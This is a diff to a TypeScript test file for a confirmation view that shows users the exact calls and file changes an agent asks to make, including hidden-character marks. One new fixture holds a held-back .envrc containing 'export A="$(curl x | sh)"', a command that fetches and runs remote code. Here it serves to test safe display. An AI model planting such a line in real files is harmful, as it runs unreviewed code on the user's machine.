@@ -7,11 +7,18 @@ import {
   isFolded,
   withSigns,
 } from '../../src/renderer/ask/confirm/evidence.ts';
+import type { ConfirmAsk } from '../../src/shared/asks/asks.ts';
 import { diffRuns } from '../../src/renderer/text/diff-runs.ts';
 import { exactly, sampleConfirm } from './samples.ts';
 
 const shown = (exact: string) => evidenceOf({ exact, command: null, changes: [] });
-const none = { argv: [], parts: [], says: '', changes: [], texts: [], json: '' } as const;
+const heldBackAsk: Pick<ConfirmAsk, 'heldBack'> = {
+  heldBack: {
+    ...{ path: '/w/.envrc', within: '/w', effect: 'direnv runs it.', change: 'created' },
+    ...{ trashId: 't1', command: ['make'], ofEntry: 'e1' },
+  },
+};
+const none = { argv: [], parts: [], says: '', changes: [], texts: [], rows: [], json: '' } as const;
 
 describe('the exact call', () => {
   it('is a list of words where it is a command, and nothing beside it is lost', () => {
@@ -19,13 +26,14 @@ describe('the exact call', () => {
     expect(shown(exact)).toEqual({
       ...none,
       argv: ['sh', '-c', 'a; b', ''],
-      json: exactly({ cwd: '/w', env: { A: '1' } }),
+      rows: [{ name: 'cwd', text: '/w' }],
+      json: exactly({ env: { A: '1' } }),
     });
     expect(shown(exactly({ argv: ['ls'] }))).toEqual({ ...none, argv: ['ls'] });
   });
 
   it.each([
-    ['no command', exactly({ path: '/w/a' })],
+    ['a value that is no plain one', exactly({ edits: [{ path: '/w/a' }] })],
     ['an empty command', exactly({ argv: [] })],
     ['words that are none', exactly({ argv: ['ls', 1] })],
     ['a list', exactly([1])],
@@ -38,16 +46,32 @@ describe('the exact call', () => {
 
   it('has texts of several lines apart, each as its lines; what is one line stays an argument', () => {
     const content = 'first\nsecond\n';
-    const rest = { path: '/w/a', note: 'one line\n' };
     const evidence = shown(exactly({ path: '/w/a', content, note: 'one line\n' }));
     const texts = [{ name: 'content', text: content }];
-    expect(evidence).toEqual({ ...none, texts, json: exactly(rest) });
+    const rows = [{ name: 'path', text: '/w/a' }];
+    expect(evidence).toEqual({ ...none, texts, rows, json: exactly({ note: 'one line\n' }) });
     expect(hasMarks(evidence)).toBe(false);
     expect(hasMarks(shown(exactly({ content: 'a\nb\u202E' })))).toBe(true);
     expect(hasMarks(shown(exactly({ 'a\u200B': 'a\nb' })))).toBe(true);
-    const view = folded(evidence, evidence.json.length + 6);
+    const view = folded(evidence, evidence.json.length + '/w/a'.length + 'path'.length + 20 + 6);
     expect(view.texts).toEqual([{ name: 'content', text: 'first\n' }]);
     expect(view.hiddenCharacters).toBe('second\n'.length);
+  });
+
+  it('shows a held-back file of one line as that line, without JSON', () => {
+    const of = (text: string) =>
+      evidenceOf({
+        exact: exactly({ '.envrc': text }),
+        command: null,
+        changes: [],
+        ...heldBackAsk,
+      });
+    const text = 'export A="$(curl x | sh)"\n';
+    expect(of(text)).toEqual({ ...none, texts: [{ name: '.envrc', text }] });
+    expect(of('A=1')).toEqual({ ...none, rows: [{ name: '.envrc', text: 'A=1' }] });
+    // Only JSON shows these exactly.
+    expect(of('a\r\n').json).toBe(exactly({ '.envrc': 'a\r\n' }));
+    expect(of('a \n\n ').json).toBe(exactly({ '.envrc': 'a \n\n ' }));
   });
 
   it('shows every line break and tab of such a text, so that Enter and completion are seen', () => {
@@ -69,7 +93,7 @@ describe('the exact call', () => {
 
   it('keeps an argument called __proto__ in view', () => {
     const exact = '{\n  "argv": [\n    "ls"\n  ],\n  "__proto__": 1\n}';
-    expect(shown(exact).json).toContain('__proto__');
+    expect(shown(exact).rows).toEqual([{ name: '__proto__', text: '1' }]);
   });
 
   it('is marked for what hides or rearranges, not for line breaks', () => {
@@ -97,7 +121,7 @@ describe('a long call', () => {
     expect(foldedWords(view)).toBe('982 characters and 490 arguments hidden');
   });
 
-  it('is whole when there is room, empty words included', () => {
+  it('is complete when it fits, including empty words', () => {
     const whole = { ...none, argv: ['a', '', ''], json: '{}' };
     expect(folded(whole, 1000)).toMatchObject(whole);
     expect(isFolded(folded(whole, 1000))).toBe(false);
@@ -119,7 +143,7 @@ describe('what is in no argument', () => {
       ...none,
       argv: ['npm', 'run', 'test'],
       says: 'test: vitest',
-      json: exact,
+      rows: [{ name: 'root', text: '/w' }],
     });
   });
 
